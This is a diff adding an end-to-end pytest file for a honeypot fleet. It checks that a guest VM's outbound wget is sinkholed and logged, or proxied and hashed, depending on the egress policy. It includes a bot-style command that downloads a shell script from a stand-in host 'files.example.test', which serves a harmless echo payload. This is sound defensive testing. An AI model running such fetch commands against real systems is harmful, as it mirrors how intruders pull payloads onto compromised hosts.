@@ -1,0 +1,114 @@
+"""Egress containment with real guests (TCG) in the run's network namespace.
+
+The "internet" is an HTTP server this test runs inside the namespace (on its
+loopback): under ``sinkhole`` a guest's wget reaches only the node's sinkhole, which
+reports the URL; under ``fetch`` the node fetches the file through that server (as the
+operator's proxy) and the guest gets it. The guests' DNS lookups are events too. Every
+event is read back from the controller's store, on the lease's session.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+import sqlite3
+from collections.abc import AsyncIterator
+from typing import Any
+
+import pytest
+
+from tests.conftest import until
+from tests.e2e.fleet import VmFleet, run
+from tests.e2e.vmhost import GATEWAY, VmHost
+
+pytestmark = [pytest.mark.vm, pytest.mark.timeout(900)]
+
+PAYLOAD = b"#!/bin/sh\necho 'a bot was here'\n" * 64
+HOST = "files.example.test"
+PORT = 8080
+URL = f"http://{HOST}:{PORT}/bins/x.sh"
+
+
+class Internet:
+    """An HTTP server in the namespace that serves PAYLOAD for URL, proxy-style."""
+
+    def __init__(self) -> None:
+        self.requests: list[bytes] = []
+
+    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = await reader.readuntil(b"\r\n\r\n")
+        self.requests.append(head)
+        if head.startswith(f"GET {URL} ".encode()):
+            writer.write(b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(PAYLOAD) + PAYLOAD)
+        else:
+            writer.write(b"HTTP/1.0 404 Not Found\r\n\r\n")
+        await writer.drain()
+        writer.close()
+
+
+@pytest.fixture
+async def internet(vm_host: VmHost) -> AsyncIterator[tuple[Internet, str]]:
+    """The test's internet, and its address inside the namespace."""
+    web = Internet()
+    sock = await vm_host.sockets.listen("127.0.0.1")
+    server = await asyncio.start_server(web.handle, sock=sock)
+    try:
+        yield web, f"127.0.0.1:{sock.getsockname()[1]}"
+    finally:
+        server.close()
+
+
+def stored(fleet: VmFleet, eventid: str, lease: str) -> list[dict[str, Any]]:
+    """The controller's stored events with ``eventid`` on ``lease``."""
+    assert fleet.controller is not None
+    path = fleet.controller.config.state_dir / "events.sqlite3"
+    with sqlite3.connect(path) as db:
+        rows = db.execute("SELECT json FROM events").fetchall()
+    events = [json.loads(row[0]) for row in rows]
+    return [e for e in events if e["eventid"] == eventid and e.get("lease") == lease]
+
+
+async def test_sinkhole_reports_lookups_and_the_url_and_gives_no_file(
+    vm_fleet: VmFleet, internet: tuple[Internet, str]
+) -> None:
+    web, _ = internet
+    await vm_fleet.ensure_node(pristine=1)  # sinkhole: the default
+    lease = await vm_fleet.lease("203.0.113.60")
+    async with vm_fleet.shell(lease.id) as conn:
+        lookup = await run(conn, f"nslookup {HOST}")
+        wget = await run(conn, f"wget -O /tmp/x.sh {URL}; echo rc=$?; ls -l /tmp/x.sh")
+    await vm_fleet.sensor().release(lease.id)
+    assert f"Address: {GATEWAY}" in str(lookup.stdout), lookup
+    assert "rc=0" not in str(wget.stdout), wget
+    assert "404" in str(wget.stderr), wget
+    assert web.requests == []  # nothing left the pool network
+
+    await until(lambda: bool(stored(vm_fleet, "honeyfleet.egress.connect", lease.id)), 30)
+    (connect,) = stored(vm_fleet, "honeyfleet.egress.connect", lease.id)
+    assert (connect["url"], connect["dst_ip"], connect["dst_port"]) == (URL, GATEWAY, PORT)
+    assert connect["src_ip"] == "203.0.113.60" and connect["guest"] == lease.guest
+    dns = stored(vm_fleet, "honeyfleet.egress.dns", lease.id)
+    assert {(e["query"], e["qtype"]) for e in dns} >= {(HOST, "A")}
+    assert all(e["answer"] in (GATEWAY, "no records") for e in dns)
+    assert not stored(vm_fleet, "cowrie.session.file_download", lease.id)
+
+
+async def test_fetch_gives_the_guest_the_file_and_the_store_its_sha256(
+    vm_fleet: VmFleet, internet: tuple[Internet, str]
+) -> None:
+    web, address = internet
+    await vm_fleet.ensure_node(pristine=1, egress_policy="fetch", egress_fetch_proxy=address)
+    lease = await vm_fleet.lease("203.0.113.61")
+    async with vm_fleet.shell(lease.id) as conn:
+        wget = await run(conn, f"wget -O /tmp/x.sh {URL} && sha256sum /tmp/x.sh")
+    await vm_fleet.sensor().release(lease.id)
+    shasum = hashlib.sha256(PAYLOAD).hexdigest()
+    assert wget.exit_status == 0, wget
+    assert str(wget.stdout).split()[0] == shasum
+    assert web.requests and web.requests[0].startswith(f"GET {URL} HTTP/1.0".encode())
+
+    await until(lambda: bool(stored(vm_fleet, "cowrie.session.file_download", lease.id)), 30)
+    (download,) = stored(vm_fleet, "cowrie.session.file_download", lease.id)
+    assert (download["url"], download["shasum"]) == (URL, shasum)
+    assert (vm_fleet.state_dir / "downloads" / shasum).read_bytes() == PAYLOAD
